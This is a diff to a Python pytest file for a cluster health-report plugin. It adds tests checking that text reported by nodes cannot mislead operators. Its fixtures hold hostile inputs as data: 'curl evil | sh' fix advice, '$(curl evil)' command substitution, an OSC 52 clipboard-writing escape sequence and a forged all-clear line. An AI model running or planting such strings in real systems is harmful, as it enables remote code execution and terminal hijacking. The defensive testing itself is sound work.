@@ -5,7 +5,8 @@ from __future__ import annotations
 import json
 from typing import Any
 
-from ansible_collections.deeplearning.aws.plugins.plugin_utils._health import lines, verdict
+import pytest
+from ansible_collections.deeplearning.aws.plugins.plugin_utils._health import ADVICE, lines, verdict
 
 
 def said(generation: int = 3, torch: str = "a", **failing: str) -> dict[str, Any]:
@@ -15,7 +16,8 @@ def said(generation: int = 3, torch: str = "a", **failing: str) -> dict[str, Any
             "name": name,
             "ok": name not in failing,
             "detail": failing.get(name, "fine"),
-            "fix": "mend it" if name in failing else "",
+            "problem": "",
+            "fix": "curl evil | sh",
         }
         for name in names
     ]
@@ -43,7 +45,7 @@ def test_one_failing_check_is_told_with_its_node_its_reason_and_what_to_do() -> 
     told = lines("red", result)
     assert not result["ok"] and failing(result) == [("deeplearning-worker2", "efs")]
     assert "deeplearning-worker2, efs: no file seen of a" in told
-    assert "    what to do: mend it" in told
+    assert f"    what to do: {ADVICE['efs']}" in told
     assert told[-1] == "Cluster red is not well: 1 check fails."
 
 
@@ -66,6 +68,36 @@ def test_a_node_with_another_version_of_the_program_is_told_so() -> None:
     silent = {"rc": 1, "stderr": "\n", "stdout": ""}
     details = [check["detail"] for check in verdict({"a": older, "b": silent})["checks"]]
     assert details == ["it answers, but as another version of the program does", "it gave no answer"]
+
+
+HOSTILE: list[dict[str, Any]] = [
+    {"generation": 10**30},
+    {"generation": "3"},
+    {"generation": True},
+    {"environments": ["pytorch"]},
+    {"environments": {"pytorch": 1}},
+    {"checks": "disk"},
+    {"checks": [{"name": "../disk", "ok": True, "detail": ""}]},
+    {"checks": [{"name": "disk", "ok": "yes", "detail": ""}]},
+    {"checks": [{"name": "disk", "ok": True, "detail": "", "problem": 7}]},
+    {"checks": [{"name": "disk", "ok": True, "detail": ""}] * 1000},
+]
+
+
+@pytest.mark.parametrize("changed", HOSTILE)
+def test_a_node_that_answers_what_no_node_of_ours_does_fails_in_one_sentence(changed: dict[str, Any]) -> None:
+    answer = {**json.loads(said()["stdout"]), **changed}
+    result = verdict({"deeplearning-master": {"rc": 0, "stdout": json.dumps(answer)}})
+    assert failing(result) == [("deeplearning-master", "reachable")]
+    assert "another version" in result["checks"][0]["detail"]
+
+
+def test_a_node_tells_the_operator_neither_what_to_run_nor_what_the_terminal_does() -> None:
+    evil = said(efs="no file\x1b]52;c;ZXZpbA==\x07\nCluster red is well: 2 nodes, all checks pass.")
+    evil["stdout"] = evil["stdout"].replace('"pytorch"', '"$(curl evil)"').replace('"problem": ""', '"problem": "x}{0"')
+    told = lines("red", verdict({"deeplearning-master": evil, "deeplearning-worker2": said()}))
+    assert not [line for line in told if "curl" in line or "\x1b" in line or "\x07" in line or "\n" in line]
+    assert told.count("Cluster red is well: 2 nodes, all checks pass.") == 0
 
 
 def test_a_node_with_an_older_list_of_members_is_named() -> None:
@@ -92,7 +124,7 @@ def test_a_node_with_other_versions_of_a_framework_is_named() -> None:
 
 def tried(**failing: str) -> dict[str, Any]:
     checks = [
-        {"name": name, "ok": name not in failing, "detail": failing.get(name, "4.00 Gbit/s"), "fix": "mend it"}
+        {"name": name, "ok": name not in failing, "detail": failing.get(name, "4.00 Gbit/s"), "fix": "curl evil | sh"}
         for name in ("all-reduce", "space")
     ]
     return {"rc": 0, "stdout": json.dumps({"schema": 1, "framework": "pytorch", "checks": checks})}
